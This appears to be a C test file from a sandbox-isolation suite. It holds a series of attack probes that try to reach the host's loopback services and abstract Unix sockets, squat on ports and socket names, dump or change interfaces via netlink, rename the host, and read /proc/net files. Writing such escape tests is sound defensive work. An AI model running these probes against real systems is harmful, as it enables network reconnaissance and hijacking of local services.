// The host's network and its local services.
#define CLASS "socket"
#include "attack.h"
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/ioctl.h>

static struct sockaddr_in loopback(int port) {
    return (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
}
static void readBanner(int fd) { poll(&(struct pollfd){fd, POLLIN, 0}, 1, 100), leakFile(fd); }
ATTACK(tcp_loopback, leak, 0, "a TCP service on the host's loopback") {
    struct sockaddr_in a = loopback(knowsNumber("TCP"));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    say("connect", connect(fd, (struct sockaddr *)&a, sizeof a)), readBanner(fd);
}
ATTACK(tcp_mapped, leak, 0, "the same through an IPv4-mapped IPv6 address") {
    struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)knowsNumber("TCP"))};
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &a.sin6_addr);
    int fd = socket(AF_INET6, SOCK_STREAM, 0);
    say("connect", connect(fd, (struct sockaddr *)&a, sizeof a)), readBanner(fd);
}
ATTACK(tcp_any, leak, 0, "the same through 0.0.0.0 and 127.1.2.3 by MSG_FASTOPEN and a non-blocking connect") {
    uint32_t addresses[] = {0, 0x7f000001};
    for (int i = 0; i < 2; i++) {
        struct sockaddr_in a = loopback(knowsNumber("TCP"));
        a.sin_addr.s_addr = htonl(addresses[i]);
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        say("sendto", sendto(fd, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&a, sizeof a)), say("connect", connect(fd, (struct sockaddr *)&a, sizeof a)),
            readBanner(fd);
    }
}
ATTACK(tcp_multipath, leak, 0, "the same by MPTCP, SCTP and SMC sockets; natively by plain TCP too") {
    int protocols[] = {262, 132, 0, 256};
    for (int i = 0; i < 4; i++) {
        struct sockaddr_in a = loopback(knowsNumber("TCP"));
        int fd = socket(AF_INET, SOCK_STREAM, protocols[i]);
        say("socket", fd), connect(fd, (struct sockaddr *)&a, sizeof a), readBanner(fd), close(fd);
    }
}
ATTACK(udp_loopback, leak, 0, "a UDP service: connect and send, sendto, sendmsg, sendmmsg") {
    struct sockaddr_in a = loopback(knowsNumber("UDP"));
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct iovec vector = {"x", 1};
    struct mmsghdr message = {{.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &vector, .msg_iovlen = 1}, 0};
    say("sendto", sendto(fd, "x", 1, 0, (struct sockaddr *)&a, sizeof a)), readBanner(fd);
    say("sendmmsg", sendmmsg(fd, &message, 1, 0)), say("sendmsg", sendmsg(fd, &message.msg_hdr, 0)), readBanner(fd);
    say("connect", connect(fd, (struct sockaddr *)&a, sizeof a)), say("send", send(fd, "x", 1, 0)), readBanner(fd);
}
static void abstractConnect(int type, const char *suffix) {
    char name[64];
    struct sockaddr_un address;
    socklen_t length;
    snprintf(name, sizeof name, "%s-%s", knows("NAME"), suffix);
    int fd = unixSocket(name, true, type, &address, &length);
    say("socket", fd), say("connect", connect(fd, (struct sockaddr *)&address, length));
    if (type == SOCK_DGRAM) {
        struct sockaddr_un own = {.sun_family = AF_UNIX};
        say("bind", bind(fd, (struct sockaddr *)&own, sizeof(sa_family_t)));
        say("send", send(fd, "x", 1, 0));
    }
    readBanner(fd);
}
ATTACK(abstract_stream, leak, 0, "an abstract stream socket of the host's") { abstractConnect(SOCK_STREAM, "s"); }
ATTACK(abstract_datagram, leak, 0, "an abstract datagram socket of the host's: connect and send") { abstractConnect(SOCK_DGRAM, "d"); }
ATTACK(abstract_sendto, change, 0, "the same by sendto, sendmsg and sendmmsg without connecting") {
    char name[64];
    struct sockaddr_un address;
    socklen_t length;
    snprintf(name, sizeof name, "%s-d", knows("NAME"));
    int fd = unixSocket(name, true, SOCK_DGRAM, &address, &length), pair[2];
    struct iovec vector = {"x", 1};
    struct mmsghdr message = {{.msg_name = &address, .msg_namelen = length, .msg_iov = &vector, .msg_iovlen = 1}, 0};
    for (int i = 0; i < 2; i++) {
        say("sendto", sendto(fd, "x", 1, 0, (struct sockaddr *)&address, length)), say("sendmsg", sendmsg(fd, &message.msg_hdr, 0)),
            say("sendmmsg", sendmmsg(fd, &message, 1, 0));
        // A pair's end is a datagram socket that no filter saw made.
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) break;
        fd = pair[0];
    }
}
ATTACK(abstract_taken, change, 0, "listening on an abstract name that programs of the host connect to") {
    char name[64];
    struct sockaddr_un address;
    socklen_t length;
    snprintf(name, sizeof name, "%s-fake", knows("NAME"));
    int fd = unixSocket(name, true, SOCK_STREAM, &address, &length);
    say("bind", bind(fd, (struct sockaddr *)&address, length)), say("listen", listen(fd, 4)), hold();
}
ATTACK(port_taken, change, 0, "listening on a port of the host's loopback") {
    struct sockaddr_in a = loopback(knowsNumber("FREE_PORT"));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    say("bind", bind(fd, (struct sockaddr *)&a, sizeof a)), say("listen", listen(fd, 4)), hold();
}
ATTACK(route_dump, leak, 0, "NETLINK_ROUTE: the host's interfaces") {
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    struct {
        struct nlmsghdr header;
        struct ifinfomsg info;
    } request = {{sizeof request, RTM_GETLINK, NLM_F_REQUEST | NLM_F_DUMP, 1, 0}, {0}};
    say("socket", fd), say("send", send(fd, &request, sizeof request, 0)), readBanner(fd);
}
ATTACK(route_change, change, NATIVE_ROOT, "NETLINK_ROUTE: an interface renamed, brought down; natively with a host name to show what counts") {
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    struct {
        struct nlmsghdr header;
        struct ifinfomsg info;
    } request = {{sizeof request, RTM_DELLINK, NLM_F_REQUEST, 1, 0}, {.ifi_index = 0x7fff}};
    say("send", send(fd, &request, sizeof request, 0));
    if (!inside && sethostname("escaped", 7) == 0) return;
}
ATTACK(interface_ioctl, leak, 0, "SIOCGIFCONF, SIOCGIFNAME and SO_BINDTODEVICE on any socket: the host's interfaces") {
    int families[] = {AF_INET, AF_UNIX, AF_INET6, AF_NETLINK};
    for (int i = 0; i < 4; i++) {
        int fd = socket(families[i], SOCK_DGRAM, 0), pair[2];
        if (fd < 0 && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) fd = pair[0];
        for (int n = 1; n < 40; n++) {
            struct ifreq r = {.ifr_ifindex = n};
            if (ioctl(fd, SIOCGIFNAME, &r) == 0) leakText(r.ifr_name);
            char bound[16] = "";
            socklen_t length = sizeof bound;
            if (setsockopt(fd, SOL_SOCKET, SO_BINDTOIFINDEX, &n, sizeof n) == 0 && getsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, bound, &length) == 0)
                leakText(bound);
        }
        struct ifreq list[40];
        struct ifconf all = {.ifc_len = sizeof list, .ifc_req = list};
        if (ioctl(fd, SIOCGIFCONF, &all) == 0) leak(list, (size_t)all.ifc_len);
    }
}
ATTACK(socket_diag, leak, 0, "NETLINK_SOCK_DIAG: the host's Unix sockets; natively a connection shows the same") {
    int fd = socket(AF_NETLINK, SOCK_RAW, 4);
    struct {
        struct nlmsghdr header;
        struct {
            uint8_t family, protocol;
            uint16_t pad;
            uint32_t states, inode, show, cookie[2];
        } r;
    } request = {{sizeof request, 20, NLM_F_REQUEST | NLM_F_DUMP, 1, 0}, {AF_UNIX, 0, 0, ~0u, 0, 1, {~0u, ~0u}}};
    say("socket", fd), say("send", send(fd, &request, sizeof request, 0)), readBanner(fd);
    if (!inside) abstractConnect(SOCK_STREAM, "s");
}
ATTACK(packet_socket, leak, NATIVE_ROOT, "packet, raw, ICMP and other families: what passes on the loopback; natively a TCP connection shows the same") {
    int families[][3] = {{17, 3, 0x300},
                         {17, 2, 0x300},
                         {AF_INET, SOCK_RAW, 1},
                         {AF_INET, SOCK_RAW, 255},
                         {AF_INET, SOCK_DGRAM, 1},
                         {15, 3, 2},
                         {38, 5, 0},
                         {40, 1, 0},
                         {31, 3, 1},
                         {30, 4, 0},
                         {29, 3, 1},
                         {44, 3, 0},
                         {21, 5, 0},
                         {41, 1, 0},
                         {16, 3, 15},
                         {16, 3, 9},
                         {16, 3, 12},
                         {16, 3, 16},
                         {16, 3, 5}};
    for (size_t i = 0; i < sizeof families / sizeof *families; i++) {
        int fd = socket(families[i][0], families[i][1], families[i][2]);
        say("socket", fd);
        if (fd >= 0) readBanner(fd), close(fd);
        int pair[2];
        say("socketpair", socketpair(families[i][0], families[i][1], families[i][2], pair));
    }
    if (!inside) {
        struct sockaddr_in a = loopback(knowsNumber("TCP"));
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&a, sizeof a) == 0) readBanner(fd);
    }
}
ATTACK(pair_families, change, NO_SUPERVISOR,
       "socketpair of families that socket refuses: it must refuse them too (what could be reached differs from kernel to kernel)") {
    for (int family = 0; family < 46; family++)
        for (int type = 1; type < 6; type++) {
            int pair[2];
            if (family != AF_UNIX && socketpair(family, type, 0, pair) == 0) { say("a pair of family", family), kill(victim(), SIGUSR1); }
        }
}
ATTACK(proc_net, leak, 0, "/proc/net/dev, unix, tcp, route: the host's names and interfaces") {
    static const char *files[] = {"/proc/net/dev",      "/proc/self/net/dev",        "/proc/net/unix",  "/proc/net/tcp",
                                  "/proc/net/if_inet6", "/proc/net/route",           "/proc/net/arp",   "/proc/net/dev_mcast",
                                  "/proc/net/igmp",     "/proc/thread-self/net/dev", "/proc/net/packet"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) leakPath(files[i]);
}
